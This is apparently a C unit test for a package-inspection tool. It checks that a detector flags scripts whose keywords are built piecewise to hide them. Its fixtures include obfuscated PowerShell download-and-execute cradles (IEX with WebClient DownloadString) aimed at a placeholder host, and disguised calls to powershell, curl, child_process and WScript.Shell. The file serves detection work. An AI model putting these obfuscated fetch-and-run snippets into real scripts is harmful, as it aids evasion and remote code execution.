/* SPDX-License-Identifier: Apache-2.0 */
/*
 * spelled: scripts whose words are put together are looked at as they read,
 * and those that only join a text or two are not.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/mem.h"
#include "base/str.h"
#include "inspect_tools.h"

static const struct {
	const char	*path, *text;
	bool		 layer;
} cases[] = {
	{ "a.ps1", "&('I'+'E'+'X') ((New-Object ('Net.'+'Web'+'Client'))."
	    "('Down'+'loadString').Invoke('https://x.example.invalid/'))",
	    true },
	{ "a.ps1", "Inv`oke-Web`Request https://x.example.invalid/a; I`E`X $r",
	    true },
	{ "a.ps1", "$a = [char]73+[char]69+[char]88; $b = [char]0x49", true },
	{ "a.bat", "@echo off\np^ow^er^shell -c start", true },
	{ "a.bat", "@echo off\nset a=cu\nset \"b=rl\"\n%a%%b% -s x", true },
	{ "a.bat", "@echo off\nset a=do\nset b=it\n%a%%b% %c% %", false },
	{ "a.js", "require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f"
	    "\\x63\\x65\\x73\\x73')", true },
	{ "a.js", "c['ex'+'ec'](String.fromCharCode(99,117,114,108,32,45), "
	    "'a'+'b')", true },
	{ "a.vbs", "Set s = CreateObject(\"WSc\" & \"ript.S\" & \"hell\" & "
	    "\"\")", true },
	{ "a.sh", "$(printf '\\143\\165\\162\\154\\040-s x')", true },
	{ "a.php", "$f = 'ba'.'se6'.'4_decode'; $g = 'a'.'b';", true },
	/* Nothing that a reader would look for. */
	{ "a.js", "x = '\\x68\\x65\\x6c\\x6c\\x6f' + ' ' + 'world'", false },
	/* It says that already. */
	{ "a.ps1", "IEX 'a' + 'b' + 'c' + 'd'; $i = 'I'+'E'+'X'", false },
	/* Too little of it. */
	{ "a.ps1", "$u = 'https:' + '//docs.example.org'", false },
	/* Templates and signs are no words that were taken apart. */
	{ "a.js", "t = tag`cu`+rl`a`; y = a^b; m = ['+', '&', '.', '+'];",
	    false },
	{ "a.txt", "'Down'+'loadS'+'tri'+'ng('", false },
};

static bool
has_layer(const struct inspect_tools *t, const char *path, const char *text)
{
	struct inspected_file file = { "p", "1", "p-1.tar.gz", PACKAGE_SDIST };
	struct features f = { 0 };
	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);
	unsigned int layers;

	inspection_entry(in, &(struct entry){ .kind = ENTRY_FILE,
	    .path = path, .inner = path, .data = (const uint8_t *)text,
	    .size = strlen(text), .installed = true });
	layers = f.layers;
	inspection_end(in);
	inspection_free(in);
	features_release(&f);
	return layers != 0;
}

static void
reads_as_it_runs(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		if (has_layer(*state, cases[i].path, cases[i].text) !=
		    cases[i].layer)
			fail_msg("%s", cases[i].text);
}

/* Texts that end in the middle of everything, each in room of its own size. */
static void
ends_anywhere(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		for (size_t len = 0; len < strlen(cases[i].text); len++) {
			char *text = mem_strndup(cases[i].text, len);

			(void)has_layer(*state, cases[i].path, text);
			free(text);
		}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(reads_as_it_runs),
		cmocka_unit_test(ends_anywhere),
	};

	return cmocka_run_group_tests(tests, inspect_tools_setup,
	    inspect_tools_teardown);
}
